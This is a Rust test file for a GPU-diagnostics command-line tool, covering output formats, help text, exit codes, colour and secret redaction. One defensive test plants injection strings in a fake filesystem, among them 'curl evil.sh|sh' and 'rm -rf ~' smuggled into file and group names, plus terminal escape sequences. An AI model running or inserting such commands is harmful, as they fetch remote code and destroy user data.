//! The command line as a user meets it: formats, options, exit codes, pipes, colour.

use std::io::Read;
use std::process::Stdio;

use crate::util::*;

#[test]
fn human_output_healthy_host() {
    let root = FakeRoot::healthy(2);
    let (code, out) = human(&root, root.cmd().args(["check", "--user", ALICE]));
    assert_eq!(code, 0);
    insta::assert_snapshot!(out);
}

#[test]
fn human_output_no_gpu() {
    let root = FakeRoot::new();
    let (code, out) = human(&root, root.cmd().args(["check", "--user", ALICE]));
    assert_eq!(code, 0);
    insta::assert_snapshot!(out);
}

#[test]
fn human_output_nouveau_and_env_problems() {
    let root = FakeRoot::new();
    root.modules(&["nouveau"])
        .gpu("0000:01:00.0", Some("nouveau"));
    let (code, out) = human(
        &root,
        root.cmd()
            .args(["check", "--user", ALICE])
            .env("CUDA_LAUNCH_BLOCKING", "1")
            .env("CUDA_VISIBLE_DEVICES", "3"),
    );
    assert_eq!(code, 1);
    insta::assert_snapshot!(out);
}

#[test]
fn human_output_verbose_shows_sources_and_checks() {
    let root = FakeRoot::healthy(1);
    root.chmod("dev/nvidia0", 0o660);
    let (code, out) = human(&root, root.cmd().args(["check", "--user", ALICE, "-v"]));
    assert_eq!(code, 1);
    insta::assert_snapshot!(out);
}

#[test]
fn markdown_report() {
    let root = FakeRoot::healthy(1);
    root.remove("dev/nvidia-uvm");
    let r = run(root
        .cmd()
        .args(["check", "--user", ALICE, "--format", "markdown"]));
    assert_eq!(r.code, 1);
    let out = r
        .stdout
        .replace(&root.path().display().to_string(), "[ROOT]");
    assert!(out.starts_with("## gpudoctor report"));
    assert!(out.contains("#### ❌ error[GD006]"));
    assert!(out.contains("```sh\n   sudo nvidia-modprobe -u -c=0\n   ```"));
    insta::assert_snapshot!(out);
}

#[test]
fn json_shorthand_equals_format_json() {
    let root = FakeRoot::healthy(1);
    let a = run(root.cmd().args(["check", "--json"]));
    let b = run(root.cmd().args(["check", "--format", "json"]));
    let strip = |s: &str| -> serde_json::Value {
        let mut v: serde_json::Value = serde_json::from_str(s).unwrap();
        // Timings and the clock differ between two runs.
        v["snapshot"]["probes"] = serde_json::Value::Null;
        v["snapshot"]["node"]["time"] = serde_json::Value::Null;
        v
    };
    assert_eq!(strip(&a.stdout), strip(&b.stdout));
    let r = run(root.cmd().args(["check", "--json", "--format", "markdown"]));
    assert_eq!(r.code, 2, "conflicting options are a usage error");
}

#[test]
fn default_command_is_check() {
    let root = FakeRoot::healthy(1);
    let r = run(&mut root.cmd());
    assert_eq!(r.code, 0);
    assert!(r.stdout.contains("no problems found"), "{}", r.stdout);
}

#[test]
fn explain_accepts_every_spelling() {
    let a = run(gpudoctor().args(["explain", "GD012"]));
    let b = run(gpudoctor().args(["explain", "gd012"]));
    let c = run(gpudoctor().args(["explain", "12"]));
    assert_eq!(a.code, 0);
    assert!(
        a.stdout.starts_with(
            "GD012: CUDA_LAUNCH_BLOCKING is set: every kernel launch is synchronous\n"
        ),
        "{}",
        a.stdout
    );
    assert!(a.stdout.contains("CUDA_LAUNCH_BLOCKING"));
    assert_eq!(a.stdout, b.stdout);
    assert_eq!(a.stdout, c.stdout);
    let bad = run(gpudoctor().args(["explain", "GD999"]));
    assert_eq!(bad.code, 2);
    assert!(bad.stderr.contains("`gpudoctor explain` lists them all"));
}

#[test]
fn explain_without_a_code_lists_and_speaks_json_and_markdown() {
    let bare = run(gpudoctor().arg("explain"));
    assert_eq!(bare.code, 0, "{}", bare.stderr);
    assert_eq!(
        bare.stdout,
        run(gpudoctor().args(["explain", "--list"])).stdout
    );
    let list = run(gpudoctor().args(["explain", "--list", "--json"]));
    let v: serde_json::Value = serde_json::from_str(&list.stdout).expect("JSON");
    assert_eq!(v["schema_version"], gpudoctor::report::SCHEMA_VERSION);
    assert_eq!(
        v["codes"].as_array().unwrap().len(),
        gpudoctor::codes::CODES.len()
    );
    assert_eq!(v["codes"][5]["code"], "GD006");
    let one = run(gpudoctor().args(["explain", "GD006", "--format", "json"]));
    let v: serde_json::Value = serde_json::from_str(&one.stdout).expect("JSON");
    assert_eq!(v["schema_version"], gpudoctor::report::SCHEMA_VERSION);
    assert_eq!(v["code"], "GD006");
    assert_eq!(
        v["title"],
        "nvidia_uvm is not loaded or /dev/nvidia-uvm is missing"
    );
    assert!(v["text"]
        .as_str()
        .unwrap()
        .contains("CUDA_ERROR_UNKNOWN (999)"));
    assert_eq!(v["fixes"][0]["command"], "sudo nvidia-modprobe -u -c=0");
    let md = run(gpudoctor().args(["explain", "6", "--format", "markdown"]));
    assert!(
        md.stdout.starts_with("## GD006: nvidia_uvm"),
        "{}",
        md.stdout
    );
    // Coloured when asked (a terminal gets the same through --color auto).
    let coloured = run(gpudoctor().args(["explain", "GD006", "--color", "always"]));
    assert!(
        coloured.stdout.starts_with("\u{1b}["),
        "{:?}",
        coloured.stdout
    );
    let plain = run(gpudoctor().args(["explain", "GD006", "--color", "never"]));
    assert!(!plain.stdout.contains('\u{1b}'));
}

#[test]
fn explain_list_names_every_code() {
    let r = run(gpudoctor()
        .args(["explain", "--list"])
        .env("COLUMNS", "1000"));
    assert_eq!(r.code, 0);
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(lines.len(), gpudoctor::codes::CODES.len());
    assert!(lines[0].starts_with("GD001  No NVIDIA GPU found"));
    for c in gpudoctor::codes::CODES {
        assert!(r.stdout.contains(c.code));
        // Every code a rule can emit is explained.
        assert_eq!(run(gpudoctor().args(["explain", c.code])).code, 0);
    }
}

#[test]
fn version_and_help() {
    let r = run(gpudoctor().arg("--version"));
    assert_eq!(r.code, 0);
    assert_eq!(
        r.stdout.trim(),
        format!("gpudoctor {}", env!("CARGO_PKG_VERSION"))
    );
    let long = run(gpudoctor().arg("--help"));
    assert!(long.stdout.contains("Examples:") && long.stdout.contains("Exit codes:"));
    let short = run(gpudoctor().arg("-h"));
    assert!(!short.stdout.contains("Examples:"));
    // check's options are check's: listed by `check -h`, still taken at the top level.
    assert!(!short.stdout.contains("--fail-on"), "{}", short.stdout);
    assert!(run(gpudoctor().args(["check", "-h"]))
        .stdout
        .contains("--fail-on"));
}

/// The options a help text mentions outside quoted commands (`check --format json`).
fn options_mentioned(help: &str) -> std::collections::BTreeSet<String> {
    let unquoted: String = help
        .split('`')
        .enumerate()
        .filter(|(i, _)| i % 2 == 0)
        .map(|(_, part)| part)
        .collect::<Vec<_>>()
        .join(" ");
    let mut found = std::collections::BTreeSet::new();
    for (i, _) in unquoted.match_indices("--") {
        let before = unquoted[..i].chars().next_back();
        if before.is_some_and(|c| c.is_alphanumeric() || c == '-') {
            continue;
        }
        let name: String = unquoted[i + 2..]
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
            .collect();
        if name.starts_with(|c: char| c.is_ascii_alphabetic()) {
            found.insert(name.trim_end_matches('-').to_string());
        }
    }
    found
}

#[test]
fn the_top_level_help_fits_a_screen_and_each_command_documents_only_its_own_options() {
    let short = run(gpudoctor().arg("-h").env("COLUMNS", "80"));
    assert_eq!(short.code, 0);
    assert!(
        short.stdout.lines().count() <= 30,
        "{} lines:\n{}",
        short.stdout.lines().count(),
        short.stdout
    );
    let tree = gpudoctor::cli::visible_command();
    let commands: Vec<&clap::Command> = tree.get_subcommands().collect();
    assert!(commands.len() >= 15);
    for sc in commands {
        let name = sc.get_name();
        assert!(
            short.stdout.contains(&format!("  {name} ")),
            "{name} not listed"
        );
        let takes: std::collections::BTreeSet<String> = sc
            .get_arguments()
            .filter_map(|a| a.get_long().map(str::to_string))
            .chain(["help".to_string()])
            .collect();
        for flag in ["-h", "--help"] {
            let help = run(gpudoctor().args([name, flag]).env("COLUMNS", "80"));
            assert_eq!(help.code, 0, "{name} {flag}");
            for mentioned in options_mentioned(&help.stdout) {
                assert!(
                    takes.contains(&mentioned),
                    "`gpudoctor {name} {flag}` mentions --{mentioned}, which {name} does not take:\n{}",
                    help.stdout
                );
            }
            for a in sc.get_arguments().filter(|a| !a.is_hide_set()) {
                if let Some(long) = a.get_long() {
                    assert!(
                        help.stdout.contains(&format!("--{long}")),
                        "`gpudoctor {name} {flag}` does not list --{long}"
                    );
                }
            }
        }
    }
}

#[test]
fn usage_errors_speak_one_style_and_point_where_an_option_belongs() {
    // Exit 2, saying `says`; the whole message back.
    let refused = |args: &[&str], says: &str| {
        let r = run(gpudoctor().args(args));
        assert_eq!(r.code, 2, "{args:?}");
        assert!(r.stderr.contains(says), "{args:?}: {}", r.stderr);
        r.stderr
    };
    let elsewhere = "--nccl is an option of `check` and `smoke`, not of `devices`";
    let stderr = refused(&["devices", "--nccl"], &format!("hint: {elsewhere}"));
    assert!(
        stderr.starts_with("gpudoctor: error: unexpected argument '--nccl'"),
        "{stderr}"
    );
    assert!(!stderr.contains("tip:"), "{stderr}");
    // Before the command, the same answer.
    refused(&["--nccl", "devices"], elsewhere);
    let r = run(gpudoctor().arg("chek"));
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("hint: did you mean `check`?"),
        "{}",
        r.stderr
    );
    assert!(!r.stderr.contains("schema"), "{}", r.stderr);
    // The project's own usage errors and clap's read alike.
    for args in [
        vec!["check", "--format", "yaml"],
        vec!["explain", "GD999"],
        vec!["fleet"],
    ] {
        let r = run(gpudoctor().args(&args));
        assert_eq!(r.code, 2, "{args:?}");
        assert!(
            r.stderr.starts_with("gpudoctor: error: "),
            "{args:?}: {}",
            r.stderr
        );
        assert!(!r.stderr.contains("\nerror:"), "{args:?}: {}", r.stderr);
    }
}

#[test]
fn usage_errors_exit_2() {
    for args in [
        vec!["check", "--format", "yaml"],
        vec!["check", "--only", "bogus"],
        vec!["check", "--timeout", "-1"],
        vec!["check", "--root", "/nonexistent/gpudoctor-root"],
        vec!["frobnicate"],
    ] {
        let r = run(gpudoctor().args(&args));
        assert_eq!(r.code, 2, "{args:?}: {}", r.stderr);
        assert!(!r.stderr.is_empty());
    }
}

#[test]
fn only_and_skip_select_probes_and_codes() {
    let root = FakeRoot::healthy(1);
    root.remove("dev/nvidia-uvm");
    let cmd = || {
        let mut c = root.cmd();
        c.arg("check").env("CUDA_LAUNCH_BLOCKING", "1");
        c
    };
    let (_, all) = json(&mut cmd());
    assert_eq!(codes(&all), ["GD006", "GD012"]);
    let (code, r) = json(cmd().args(["--skip", "GD006"]));
    assert_eq!(codes(&r), ["GD012"]);
    assert_eq!(code, 0);
    let (_, r) = json(cmd().args(["--only", "gd12"]));
    assert_eq!(codes(&r), ["GD012"]);
    let (_, r) = json(cmd().args(["--only", "environment"]));
    assert_eq!(codes(&r), ["GD012"]);
    assert_eq!(r["snapshot"]["probes"]["device_nodes"]["status"], "skipped");
    assert!(r["snapshot"]["device_nodes"].is_null());
    let (_, r) = json(cmd().args(["--skip", "environment,GD006"]));
    assert!(codes(&r).is_empty());
}

#[test]
fn from_replays_a_saved_report_without_probing() {
    let root = FakeRoot::healthy(1);
    root.remove("dev/nvidia-uvm");
    let saved = run(root
        .cmd()
        .args(["check", "--json"])
        .env("CUDA_LAUNCH_BLOCKING", "1"));
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("report.json");
    std::fs::write(&file, &saved.stdout).unwrap();
    drop(root); // the facts now live only in the file
    let (code, replay) = json(gpudoctor().args(["check", "--from"]).arg(&file));
    assert_eq!(code, 1);
    assert_eq!(codes(&replay), ["GD006", "GD012"]);
    // A bare snapshot works too, and rules can be filtered on replay.
    let v: serde_json::Value = serde_json::from_str(&saved.stdout).unwrap();
    std::fs::write(&file, v["snapshot"].to_string()).unwrap();
    let (code, replay) = json(
        gpudoctor()
            .args(["check", "--skip", "GD006", "--from"])
            .arg(&file),
    );
    assert_eq!((code, codes(&replay)), (0, vec!["GD012".to_string()]));
}

#[test]
fn from_rejects_garbage_and_other_schema_versions() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("r.json");
    std::fs::write(&file, b"\xff\xfe not json").unwrap();
    let r = run(gpudoctor().args(["check", "--from"]).arg(&file));
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("not JSON"), "{}", r.stderr);
    std::fs::write(&file, r#"{"schema_version": 99, "snapshot": {}}"#).unwrap();
    let r = run(gpudoctor().args(["check", "--from"]).arg(&file));
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("schema_version 99"), "{}", r.stderr);
    let r = run(gpudoctor().args(["check", "--from", "/nonexistent/report.json"]));
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("/nonexistent/report.json"));
}

#[test]
fn secrets_never_reach_any_output() {
    let root = FakeRoot::healthy(1);
    for format in ["human", "json", "markdown"] {
        let r = run(root
            .cmd()
            .args(["check", "-v", "--format", format])
            .env("NCCL_SOCKET_TOKEN", "hunter2")
            .env("NCCL_DEBUG", "INFO"));
        assert!(!r.stdout.contains("hunter2"), "{format}: {}", r.stdout);
        assert!(r.stdout.contains("NCCL_SOCKET_TOKEN"), "{format}");
        assert!(r.stdout.contains("<redacted>"), "{format}");
        assert!(
            r.stdout.contains("INFO"),
            "{format}: non-secret values are shown"
        );
    }
}

#[test]
fn colour_follows_the_flags_and_environment() {
    let root = FakeRoot::healthy(1);
    let has_esc = |r: &Run| r.stdout.contains('\u{1b}');
    let mut c = root.cmd();
    c.args(["check", "--color", "always"])
        .env("CUDA_LAUNCH_BLOCKING", "1");
    assert!(has_esc(&run(&mut c)), "--color always");
    let mut c = root.cmd();
    c.args(["check"]).env("CUDA_LAUNCH_BLOCKING", "1");
    assert!(!has_esc(&run(&mut c)), "auto + NO_COLOR + pipe");
    let mut c = root.cmd();
    c.args(["check"])
        .env_remove("NO_COLOR")
        .env("CLICOLOR_FORCE", "1");
    assert!(has_esc(&run(&mut c)), "auto + CLICOLOR_FORCE");
    let mut c = root.cmd();
    c.args(["check", "--color", "never"])
        .env_remove("NO_COLOR")
        .env("CLICOLOR_FORCE", "1");
    assert!(!has_esc(&run(&mut c)), "--color never wins");
    let mut c = root.cmd();
    c.args(["check"]).env_remove("NO_COLOR");
    assert!(!has_esc(&run(&mut c)), "auto on a pipe");
    // NO_COLOR beats CLICOLOR_FORCE; only the flag beats NO_COLOR.
    let mut c = root.cmd();
    c.args(["check"])
        .env("NO_COLOR", "1")
        .env("CLICOLOR_FORCE", "1");
    assert!(!has_esc(&run(&mut c)), "NO_COLOR + CLICOLOR_FORCE");
    let mut c = root.cmd();
    c.args(["check", "--color", "always"])
        .env("NO_COLOR", "1")
        .env("CLICOLOR_FORCE", "0");
    assert!(has_esc(&run(&mut c)), "--color always + NO_COLOR");
    // CLICOLOR=0 does not stop a forced colour; FORCE_COLOR forces like CLICOLOR_FORCE.
    let mut c = root.cmd();
    c.args(["check"])
        .env_remove("NO_COLOR")
        .env("CLICOLOR", "0")
        .env("CLICOLOR_FORCE", "1");
    assert!(has_esc(&run(&mut c)), "CLICOLOR=0 + CLICOLOR_FORCE");
    let mut c = root.cmd();
    c.args(["check"])
        .env_remove("NO_COLOR")
        .env("FORCE_COLOR", "1");
    assert!(has_esc(&run(&mut c)), "FORCE_COLOR");
    // Another subcommand's human output follows the same decision.
    let mut c = root.cmd();
    c.arg("toolkit")
        .env_remove("NO_COLOR")
        .env("CLICOLOR_FORCE", "1");
    assert!(has_esc(&run(&mut c)), "toolkit + CLICOLOR_FORCE");
    let mut c = root.cmd();
    c.arg("toolkit").env("CLICOLOR_FORCE", "1");
    assert!(
        !has_esc(&run(&mut c)),
        "toolkit + NO_COLOR + CLICOLOR_FORCE"
    );
}

/// `gpudoctor ARGS` under script(1): stdout and stderr are a terminal. `env` is all the
/// environment it gets besides PATH.
fn on_a_terminal(args: &str, env: &[(&str, &str)]) -> Option<String> {
    if which::which("script").is_err() {
        crate::util::skip(format_args!("script(1) is not installed"));
        return None;
    }
    let bin = assert_cmd::cargo::cargo_bin("gpudoctor");
    let out = std::process::Command::new("script")
        .args(["-qec", &format!("{} {args}", bin.display()), "/dev/null"])
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .envs(env.iter().copied())
        .output()
        .expect("run script(1)");
    Some(String::from_utf8_lossy(&out.stdout).into_owned())
}

#[test]
fn on_a_terminal_colour_is_on_unless_clicolor_0_no_color_or_a_dumb_terminal() {
    let root = FakeRoot::healthy(1);
    let args = format!("--root {} check", root.path().display());
    let Some(out) = on_a_terminal(&args, &[("TERM", "xterm")]) else {
        return;
    };
    assert!(out.contains('\u{1b}'), "a terminal: {out:?}");
    for env in [
        [("TERM", "xterm"), ("CLICOLOR", "0")],
        [("TERM", "xterm"), ("NO_COLOR", "1")],
        [("TERM", "dumb"), ("LANG", "en_US.UTF-8")],
    ] {
        let out = on_a_terminal(&args, &env).unwrap();
        assert!(!out.contains('\u{1b}'), "{env:?}: {out:?}");
    }
    let out = on_a_terminal(&format!("--color always {args}"), &[("TERM", "dumb")]).unwrap();
    assert!(
        out.contains('\u{1b}'),
        "--color always on a dumb terminal: {out:?}"
    );
}

#[test]
fn a_dumb_terminal_or_a_locale_that_is_not_utf8_gets_ascii() {
    let root = FakeRoot::healthy(8);
    root.remove("dev/nvidia-uvm");
    let utf8 = run(root.cmd().arg("check").env("LANG", "en_US.UTF-8")).stdout;
    for c in ['✓', '✗', '·', '→', '…', '×', '—'] {
        assert!(utf8.contains(c), "{c} in\n{utf8}");
    }
    // Unset, the locale is taken as UTF-8 (a container, a CI runner): see render::term.
    assert_eq!(run(root.cmd().arg("check")).stdout, utf8);
    for env in [
        [("LANG", "C"), ("TERM", "xterm")],
        [("LANG", "de_DE.ISO-8859-1"), ("TERM", "xterm")],
        [("LC_ALL", "POSIX"), ("LANG", "en_US.UTF-8")],
        [("LC_CTYPE", "C"), ("LANG", "en_US.UTF-8")],
        [("TERM", "dumb"), ("LANG", "en_US.UTF-8")],
    ] {
        let mut c = root.cmd();
        c.arg("check").envs(env);
        let ascii = run(&mut c).stdout;
        let path = root.path().display().to_string();
        let shown = ascii.replace(&path, "[ROOT]");
        assert!(shown.is_ascii(), "{env:?}:\n{shown}");
        // The same report, in ASCII: the marks, arrows, ranges and multiplication signs.
        assert!(
            shown.contains("\nx CUDA will not work here: 1 blocker (GD006)\n"),
            "{env:?}:\n{shown}"
        );
        assert!(shown.contains("\n+ Driver "), "{env:?}:\n{shown}");
        assert!(shown.contains("  x /dev/nvidia-uvm "), "{env:?}:\n{shown}");
        assert!(shown.contains("\n- Platform "), "{env:?}:\n{shown}");
        assert!(
            shown.contains("1 error -- more with -v; `gpudoctor explain GD006`"),
            "{env:?}:\n{shown}"
        );
        assert!(
            shown.contains("8x NVIDIA H100 80GB HBM3 (10de:2330) -> nvidia"),
            "{env:?}:\n{shown}"
        );
        assert!(
            shown.contains("0000:18:00.0...0000:1f:00.0"),
            "{env:?}:\n{shown}"
        );
        assert!(
            shown.starts_with("gpudoctor 0.1.0 -- inspecting"),
            "{shown}"
        );
        // Labels stay aligned: the value column starts at one place in a section (-v).
        let mut c = root.cmd();
        c.args(["check", "-v"]).envs(env);
        let verbose = run(&mut c).stdout;
        assert!(verbose.is_ascii(), "{env:?}:\n{verbose}");
        let devices: Vec<&str> = verbose
            .split("\nDevices\n")
            .nth(1)
            .unwrap()
            .lines()
            .take_while(|l| !l.is_empty())
            .collect();
        let columns: std::collections::BTreeSet<usize> =
            devices.iter().map(|l| value_column(l)).collect();
        assert_eq!(columns.len(), 1, "{devices:#?}");
        // JSON and Markdown are not terminal output: they keep their characters.
        let mut c = root.cmd();
        c.args(["check", "--format", "markdown"]).envs(env);
        assert!(run(&mut c).stdout.contains('✗'));
    }
}

/// Where a report line's value starts: after the mark, the label and its padding.
fn value_column(line: &str) -> usize {
    let label_start = 4;
    let rest = &line[label_start..];
    let label_end = rest.find("  ").expect("a padded label");
    let after = &rest[label_end..];
    label_start + label_end + (after.len() - after.trim_start().len())
}

#[test]
fn closed_stdout_pipe_ends_quietly() {
    let root = FakeRoot::healthy(8);
    let bin = assert_cmd::cargo::cargo_bin("gpudoctor");
    let root_arg = format!("--root={}", root.path().display());
    for args in [
        vec!["check", "-v", "--format", "json", &root_arg],
        vec!["completions", "zsh"],
    ] {
        let mut child = std::process::Command::new(&bin)
            .args(&args)
            .env_clear()
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        drop(child.stdout.take()); // the reader went away, like `| head -1`
        let mut err = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut err)
            .unwrap();
        let status = child.wait().unwrap();
        assert!(err.is_empty(), "{args:?}: {err}");
        assert!(
            status.code() == Some(0) || status.code() == Some(1),
            "{args:?}: {status:?}"
        );
    }
    // And through a real shell pipeline.
    let out = std::process::Command::new("bash")
        .arg("-c")
        .arg(format!(
            "'{}' --root '{}' check -v | head -c 10 >/dev/null; echo rc=${{PIPESTATUS[0]}}",
            bin.display(),
            root.path().display()
        ))
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("rc=0"), "{text}");
    assert!(
        out.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn hostile_numbers_and_names_are_usage_errors_not_panics() {
    for args in [
        vec!["check", "--timeout", "1e20"],
        vec!["check", "--timeout", "1e308"],
        vec!["check", "--only", "€"],
        vec!["check", "--skip", "gö"],
        vec!["explain", "€1"],
    ] {
        let r = run(gpudoctor().args(&args));
        assert_eq!(r.code, 2, "{args:?}");
        assert!(!r.stderr.contains("panicked"), "{args:?}: {}", r.stderr);
    }
}

#[test]
fn names_from_the_root_cannot_inject_commands_or_escape_sequences() {
    let root = FakeRoot::healthy(1);
    root.file(
        "etc/os-release",
        "ID=ubuntu\nPRETTY_NAME=\"Evil\u{1b}[2J\u{1b}]0;pwned\u{7}\"\n",
    );
    // A sysfs entry whose name is a shell command, pointing at an unbound NVIDIA GPU.
    root.file("sys/devices/evil/vendor", "0x10de\n")
        .file("sys/devices/evil/class", "0x030000\n");
    root.link(
        "../../../devices/evil",
        "sys/bus/pci/devices/0000:20:00.0 && curl evil.sh|sh #",
    );
    // SAFETY: getgid only reads credentials.
    let gid = unsafe { libc::getgid() };
    root.file("etc/group", &format!("vid eo;rm -rf ~:x:{gid}:\n"));
    root.chmod("dev/nvidia0", 0o660);
    for format in ["human", "markdown", "json"] {
        let r = run(root
            .cmd()
            .args(["check", "-v", "--user", "alice", "--format", format]));
        assert!(
            !r.stdout.contains('\u{1b}'),
            "{format}: escape sequence passed through"
        );
        assert!(!r.stdout.contains("curl evil.sh"), "{format}");
        if format != "json" {
            assert!(
                r.stdout
                    .contains("sudo usermod -aG 'vid eo;rm -rf ~' alice"),
                "{format}: {}",
                r.stdout
            );
        }
    }
}

#[test]
fn only_device_nodes_still_judges_access() {
    let root = FakeRoot::healthy(1);
    root.chmod("dev/nvidia0", 0o660);
    let (code, report) =
        json(
            root.cmd()
                .args(["check", "--user", ALICE, "--only", "device_nodes,GD008"]),
        );
    assert_eq!(code, 1);
    assert_eq!(codes(&report), ["GD008"]);
    let r = run(root
        .cmd()
        .args(["check", "--user", "nosuchuser", "--only", "device_nodes"]));
    assert_eq!(r.code, 2);
}

#[test]
fn from_refuses_what_is_not_a_report_and_reads_pipes() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("package.json");
    for text in [r#"{"name": "x"}"#, "[]", r#"{"schema_version": 1}"#] {
        std::fs::write(&file, text).unwrap();
        let r = run(gpudoctor().args(["check", "--from"]).arg(&file));
        assert_eq!(r.code, 2, "{text}");
    }
    let root = FakeRoot::healthy(1);
    let saved = run(root
        .cmd()
        .args(["check", "--json"])
        .env("CUDA_LAUNCH_BLOCKING", "1"));
    std::fs::write(&file, &saved.stdout).unwrap();
    let r = run(gpudoctor()
        .args(["check", "--root", "/", "--from"])
        .arg(&file));
    assert_eq!(r.code, 2, "--from with --root is contradictory");
    let bin = assert_cmd::cargo::cargo_bin("gpudoctor");
    let out = std::process::Command::new("bash")
        .arg("-c")
        .arg(format!(
            "'{}' check --json --from <(cat '{}')",
            bin.display(),
            file.display()
        ))
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(codes(&v), ["GD012"]);
}

#[test]
fn every_explanation_is_ascii_on_a_dumb_terminal() {
    for c in gpudoctor::codes::CODES {
        let r = run(gpudoctor().args(["explain", c.code]).env("TERM", "dumb"));
        assert_eq!(r.code, 0);
        assert!(
            r.stdout.is_ascii(),
            "{}: {:?}",
            c.code,
            r.stdout
                .chars()
                .filter(|c| !c.is_ascii())
                .collect::<String>()
        );
    }
    let r = run(gpudoctor().args(["explain", "GD056"]).env("TERM", "dumb"));
    assert!(r.stdout.contains("10*2^-24*sqrt("), "{}", r.stdout);
}
